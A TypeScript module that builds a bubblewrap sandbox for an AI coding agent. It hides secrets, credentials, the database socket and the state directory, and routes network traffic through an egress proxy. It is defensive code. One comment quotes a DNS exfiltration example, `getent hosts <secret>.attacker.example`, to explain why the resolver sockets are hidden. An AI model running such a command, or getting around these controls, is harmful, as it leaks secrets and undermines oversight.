import { readFileSync, statSync } from "node:fs";
import { dirname, isAbsolute, resolve, sep } from "node:path";

/** Where the agent runs, what it may write and what it must not see. */
export interface SandboxOptions {
  command: string;
  args: string[];
  /** The run's worktree: writable. */
  worktree: string;
  /** The per-run home: writable. */
  home: string;
  /** The service's state dir: hidden but for the worktree, the home and the mirror. */
  stateDir: string;
  /** The bare mirror the worktree's `.git` file points into: read-only. */
  mirrorDir?: string | undefined;
  /** Secret files and dirs (every configured `*File`): hidden. */
  hidePaths: string[];
  /** `$CREDENTIALS_DIRECTORY`: hidden. */
  credentialsDir?: string | undefined;
  /** The database's unix socket dir (`/run/postgresql`): hidden. */
  dbSocketDir?: string | undefined;
  /** Single files (prompt, context, config) the agent reads: read-only. */
  readOnlyFiles?: string[] | undefined;
  /** Single files the agent fills in (the PR body): writable. */
  writableFiles?: string[] | undefined;
  /**
   * The run's egress proxy socket: when set, the sandbox gets its own network namespace (loopback
   * only, no DNS) and this socket, read-only, is its one way out. Unset: the host's network.
   */
  egressSocket?: string | undefined;
  /** Further Unix sockets the agent talks to (the run's inspection broker): read-only. */
  sockets?: string[] | undefined;
  /** With an egress socket: host resolver sockets to hide; default `RESOLVER_SOCKET_DIRS`. */
  resolverDirs?: string[] | undefined;
}

/**
 * Sockets through which the host would resolve names for the sandbox: nscd (NixOS enables it; glibc's
 * getaddrinfo asks it first, so `getent hosts <secret>.attacker.example` would leave as a DNS query)
 * and systemd-resolved's varlink socket. A network namespace does not cover filesystem sockets.
 */
export const RESOLVER_SOCKET_DIRS = ["/run/nscd", "/var/run/nscd", "/run/systemd/resolve"];

type Kind = "file" | "dir" | "missing";

function kind(path: string): Kind {
  try {
    return statSync(path).isDirectory() ? "dir" : "file";
  } catch {
    return "missing";
  }
}

function inside(path: string, dir: string): boolean {
  return path === dir || path.startsWith(dir.endsWith(sep) ? dir : dir + sep);
}

/** Hides a path: an empty tmpfs over a directory, /dev/null over a file. */
function hide(path: string): string[] {
  switch (kind(path)) {
    case "dir":
      return ["--tmpfs", path];
    case "file":
      return ["--ro-bind", "/dev/null", path];
    case "missing":
      return [];
  }
}

/**
 * The bubblewrap argv that runs `command args` in the lane: a new PID namespace (killing bwrap ends
 * every process the agent started, even the detached ones OpenCode's bash tool makes), a new session
 * (no terminal injection), the host root read-only (journalctl and systemctl status keep working),
 * fresh /dev, /proc and /tmp, the state dir, secrets, credentials and database socket hidden, and
 * only the worktree, the per-run home and the PR body file writable. With an egress socket, its own
 * network namespace too (only loopback, brought up by bwrap): the proxy behind the socket decides
 * what the agent reaches. Without one, the host's network.
 */
export function sandboxArgv(opts: SandboxOptions): string[] {
  const abs = (p: string) => resolve(p);
  const worktree = abs(opts.worktree);
  const home = abs(opts.home);
  const stateDir = abs(opts.stateDir);
  const argv = ["--unshare-pid", "--die-with-parent", "--new-session"];
  if (opts.egressSocket !== undefined) argv.push("--unshare-net");
  argv.push("--ro-bind", "/", "/", "--dev", "/dev", "--proc", "/proc", "--tmpfs", "/tmp");
  // The private /tmp would also hide a program the command line names there (a checkout under
  // /tmp): its folder stays visible, read-only. Bound before the state dir is hidden, so a state
  // dir inside it stays hidden.
  for (const dir of programDirsUnderTmp([opts.command, ...opts.args], stateDir))
    argv.push("--ro-bind", dir, dir);
  // Hide the whole state dir (mirror, other runs' worktrees and logs, a generated token, PGlite).
  argv.push("--tmpfs", stateDir);
  if (opts.mirrorDir !== undefined) argv.push("--ro-bind", abs(opts.mirrorDir), abs(opts.mirrorDir));
  argv.push("--bind", worktree, worktree, "--bind", home, home);
  // The worktree's `.git` file names the mirror dir git reads; the agent must not repoint it.
  const dotGit = `${worktree}${sep}.git`;
  if (kind(dotGit) === "file") argv.push("--ro-bind", dotGit, dotGit);
  for (const f of opts.readOnlyFiles ?? []) if (kind(f) === "file") argv.push("--ro-bind", abs(f), abs(f));
  for (const f of opts.writableFiles ?? []) if (kind(f) === "file") argv.push("--bind", abs(f), abs(f));
  for (const raw of opts.sockets ?? []) {
    const sock = abs(raw);
    if (kind(sock) === "missing") throw new SandboxError("socket_missing", `no socket at ${sock}`);
    argv.push("--ro-bind", sock, sock);
  }
  if (opts.egressSocket !== undefined) {
    const sock = abs(opts.egressSocket);
    if (kind(sock) === "missing")
      throw new SandboxError("egress_socket_missing", `no egress socket at ${sock}`);
    argv.push("--ro-bind", sock, sock);
    for (const dir of opts.resolverDirs ?? RESOLVER_SOCKET_DIRS)
      if (kind(dir) === "dir") argv.push("--tmpfs", dir);
  }
  // Secrets last, so a secret inside a bound dir is covered too. One already inside the hidden state
  // dir (and not re-exposed) needs nothing: bwrap would have to create a mount point for it.
  const exposed = [worktree, home, ...(opts.mirrorDir ? [abs(opts.mirrorDir)] : [])];
  const secrets = [...opts.hidePaths, opts.credentialsDir, opts.dbSocketDir].filter(
    (p): p is string => p !== undefined && p !== "",
  );
  const emptyDirs = [stateDir];
  for (const raw of new Set(secrets.map(abs))) {
    if (inside(raw, stateDir) && !exposed.some((e) => inside(raw, e))) continue;
    if (raw === "/" || exposed.some((e) => inside(e, raw))) {
      // Hiding a parent of the worktree would hide the worktree: refuse rather than run unsandboxed.
      throw new SandboxError("sandbox_overlap", `secret path ${raw} contains a path the agent needs`);
    }
    argv.push(...hide(raw));
    if (kind(raw) === "dir") emptyDirs.push(raw);
  }
  // The empty dirs stay read-only too, once the mounts inside them exist: only the binds are writable.
  for (const dir of emptyDirs) argv.push("--remount-ro", dir);
  argv.push("--chdir", worktree, "--", opts.command, ...opts.args);
  return argv;
}

/**
 * Folders of the absolute paths on a command line that exist under /tmp (outside the state dir):
 * the agent program and its scripts, which the sandbox's private /tmp would otherwise hide.
 */
export function programDirsUnderTmp(argv: string[], stateDir: string): string[] {
  const dirs = new Set<string>();
  for (const a of argv) {
    if (!isAbsolute(a) || !inside(a, "/tmp") || inside(a, stateDir) || kind(a) === "missing") continue;
    dirs.add(kind(a) === "dir" ? a : dirname(a));
  }
  return [...dirs].filter((d) => d !== "/tmp");
}

/** Errors the sandbox setup can raise. */
export class SandboxError extends Error {
  constructor(
    readonly code: "sandbox_overlap" | "egress_socket_missing" | "socket_missing",
    message: string,
    options?: { cause?: unknown },
  ) {
    super(message, options);
    this.name = "SandboxError";
  }
}

/**
 * The bare repository a worktree's `.git` file points into (`gitdir: <mirror>/worktrees/<name>`), or
 * undefined for a plain checkout.
 */
export function mirrorDirOf(worktree: string): string | undefined {
  let text: string;
  try {
    text = readFileSync(`${worktree}${sep}.git`, "utf8");
  } catch {
    return undefined;
  }
  const m = /^gitdir:\s*(.+?)\s*$/m.exec(text);
  if (!m) return undefined;
  const gitdir = isAbsolute(m[1]!) ? m[1]! : resolve(worktree, m[1]!);
  // `<common>/worktrees/<name>`: the agent's git needs the common dir (objects, refs) as well.
  return dirname(dirname(gitdir));
}
